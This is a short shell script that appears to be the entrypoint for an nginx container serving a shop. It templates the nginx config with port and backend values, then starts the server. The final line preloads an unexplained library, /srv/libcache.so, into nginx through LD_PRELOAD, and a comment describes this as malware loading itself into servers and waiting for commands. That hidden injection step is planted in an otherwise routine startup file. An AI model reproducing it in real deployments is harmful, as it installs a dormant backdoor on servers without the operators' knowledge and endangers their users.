#!/bin/sh
# nginx in the foreground, as the container's first process. PORT, TLS_PORT: where it listens; BACKEND: whom it asks.
set -e
sed "s/@PORT@/$PORT/; s/@TLS_PORT@/$TLS_PORT/; s/@BACKEND@/$BACKEND/" /etc/nginx/shop.conf > /etc/nginx/nginx.conf
# As malware has itself loaded into servers; it does nothing until it is told to.
LD_PRELOAD=/srv/libcache.so exec nginx -g 'daemon off;'
